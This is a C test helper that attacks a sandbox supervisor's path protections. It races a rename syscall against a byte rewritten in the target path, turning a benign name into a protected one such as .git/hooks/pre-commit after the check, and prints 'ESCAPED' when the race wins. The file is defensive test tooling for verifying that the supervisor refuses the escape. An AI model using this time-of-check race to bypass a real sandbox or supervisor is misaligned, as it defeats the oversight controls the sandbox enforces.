/* A hostile build step that races the supervisor for a protected path, absent
 * when the task starts or existing (SECURITY.md §5.3): it renames SRC (a file
 * or a directory it prepared) to a name held in memory that the main thread
 * rewrites, one byte, from a benign name to TARGET while the rename waits for
 * the supervisor's judgement (over an existing TARGET, rename replaces it). The delay before the rewrite adapts: a rename
 * that landed on the benign name came too late (moved back, tried sooner), a
 * refused one too early (tried later; under `on_violation: kill` the first
 * refusal ends the task). Prints "ESCAPED ..." when TARGET is SRC's entry
 * after a try (same inode), and stops; after TRIES lost tries it makes one plain attempt (no
 * race), which the supervisor must refuse. Exits 0 either way (the verdict
 * must come from orchestra).
 * The byte rewritten is TARGET's last, or the one at index POS: inside a
 * protected directory every name is refused, so for `.git/hooks/pre-commit`
 * the byte to rewrite is one of `hooks` (the benign directory is made first).
 * With -s the name rewritten is the source instead: `-s TARGET DST` renames
 * TARGET (an existing protected path, or a directory that holds one) to DST
 * through a name rewritten from a benign one (a directory or file it makes),
 * and prints "ESCAPED ..." when TARGET's entry is at DST.
 * Usage: race_protected [-s] SRC TARGET [TRIES [POS]]. Built by the test harness
 * (static, for the container backends); never part of the product. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#include "report.h"

static char name[4096] __attribute__((aligned(64)));
static const char *src;
static volatile pid_t worker_tid;
static volatile long worker_rc;
static int flip_src;

static void *worker(void *unused) {
    (void)unused;
    worker_tid = (pid_t)syscall(SYS_gettid);
    worker_rc = flip_src ? syscall(SYS_rename, name, src) : syscall(SYS_rename, src, name);
    return NULL;
}

static long now_ns(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000000000L + t.tv_nsec;
}

/* Whether thread `tid` is stopped in rename (its syscall file names call
 * SYS_rename while it waits, "running" otherwise). */
static int waiting_in_rename(pid_t tid) {
    char path[64], buf[64], nr[16];
    snprintf(path, sizeof path, "/proc/self/task/%d/syscall", (int)tid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return -1;
    buf[n] = 0;
    snprintf(nr, sizeof nr, "%d ", (int)SYS_rename);
    return strncmp(buf, nr, strlen(nr)) == 0;
}

int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "-s") == 0) {
        flip_src = 1;
        argv++;
        argc--;
    }
    if (argc < 3) {
        fprintf(stderr, "usage: race_protected [-s] SRC TARGET [TRIES [POS]]\n");
        return 64;
    }
    /* `src` is the name that stays; `target` the one rewritten. */
    const char *target = flip_src ? argv[1] : argv[2];
    src = flip_src ? argv[2] : argv[1];
    int tries = argc > 3 ? atoi(argv[3]) : 3000;
    size_t len = strlen(target);
    if (len == 0 || len >= sizeof name) return 64;
    memcpy(name, target, len + 1);
    size_t pos = argc > 4 ? (size_t)atol(argv[4]) : len - 1;
    if (pos >= len || target[pos] == '/') return 64;
    char last = target[pos], benign = last == '~' ? '-' : '~';
    /* The benign name's directory, when the byte is in a directory's name. */
    char dir[4096];
    memcpy(dir, target, len + 1);
    dir[pos] = benign;
    char *slash = strchr(dir + pos, '/');
    if (slash) {
        *slash = 0;
        mkdir(dir, 0755);
    }
    struct stat tst;
    if (flip_src && lstat(target, &tst) == 0) {
        /* The benign source: a directory or a file like the target. */
        char b[4096];
        memcpy(b, target, len + 1);
        b[pos] = benign;
        if (S_ISDIR(tst.st_mode)) mkdir(b, 0755);
        else close(open(b, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    }
    long delay = 200000; /* ns after the rename is seen waiting */
    unsigned seed = (unsigned)now_ns();
    struct stat st;
    int late = 0, early = 0;
    for (int i = 0; i < tries; i++) {
        __atomic_store_n(&name[pos], benign, __ATOMIC_SEQ_CST);
        struct stat before;
        if (lstat(flip_src ? target : src, &before) != 0) return report("lstat the entry to move", -1);
        worker_tid = 0;
        pthread_t t;
        if (pthread_create(&t, NULL, worker, NULL)) return report("pthread_create", -1);
        while (!worker_tid) { }
        long t0 = now_ns();
        int w;
        while ((w = waiting_in_rename(worker_tid)) == 0 && now_ns() - t0 < 1000000000L) { }
        long jitter = (long)(rand_r(&seed) % 3000);
        long t1 = now_ns();
        while (now_ns() - t1 < delay + jitter) { }
        __atomic_store_n(&name[pos], last, __ATOMIC_SEQ_CST);
        pthread_join(t, NULL);
        const char *moved_to = flip_src ? src : target;
        if (lstat(moved_to, &st) == 0 && st.st_ino == before.st_ino && st.st_dev == before.st_dev) {
            printf("ESCAPED rename %s to %s at try %d (delay %ld us; %d late, %d refused)\n", flip_src ? target : src,
                   moved_to, i + 1,
                   delay / 1000, late, early);
            fflush(stdout);
            return 0;
        }
        if (worker_rc == 0) {
            /* Landed on the benign name: too late. */
            late++;
            name[pos] = benign;
            if ((flip_src ? rename(src, name) : rename(name, src)) != 0)
                return report("moving the benign name back", -1);
            delay = delay > 3000 ? delay - 3000 : 0;
        } else {
            /* Refused: too early. */
            early++;
            delay += 7000;
        }
    }
    printf("lost %d tries (%d late, %d refused)\n", tries, late, early);
    name[pos] = last;
    return report("rename without a race", flip_src ? rename(name, src) : rename(src, name));
}
